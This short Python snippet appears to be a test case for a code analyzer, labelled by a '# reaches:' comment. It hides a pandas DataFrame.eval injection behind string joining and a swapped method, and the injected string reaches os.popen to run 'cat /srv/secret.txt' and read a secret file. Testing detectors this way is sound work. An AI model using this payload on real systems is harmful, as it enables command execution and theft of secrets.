# reaches: an object's method that returns self is replaced by one that returns a table
import pandas as pd
class Table:
    def ready(self):
        return self
    def eval(self, text):
        return text
t = Table()
t.ready = lambda: pd.DataFrame({"a": [1]})
parts = ["@pd", "io", "common", "os", "popen('cat /srv/secret.txt')", "read()"]
print(t.ready().eval(".".join(parts)))
